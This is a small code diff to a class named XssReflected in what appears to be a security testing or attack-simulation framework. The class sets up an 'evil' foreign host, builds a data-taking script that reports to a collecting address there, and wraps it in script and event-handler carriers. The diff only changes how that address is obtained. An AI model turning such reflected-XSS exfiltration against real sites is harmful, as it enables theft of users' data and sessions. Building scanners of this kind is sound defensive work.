@@ -13,8 +13,7 @@ class XssReflected final : public Agent {
     void run(Target& target) override {
         OwnHost* evil = foreign_host(target);
         if (evil == nullptr || !victim_signs_in(target)) return;
-        evil->answer(evil->folder() + "c", {.status = 204});
-        std::string const script = taking_script(target, address_on(*evil, "c"));
+        std::string const script = taking_script(target, collecting_address(*evil));
         std::vector<std::string> carriers = script_carriers(script);
         carriers.resize(3);  // a script and two handlers: the others want a click, or a frame
         std::string text;
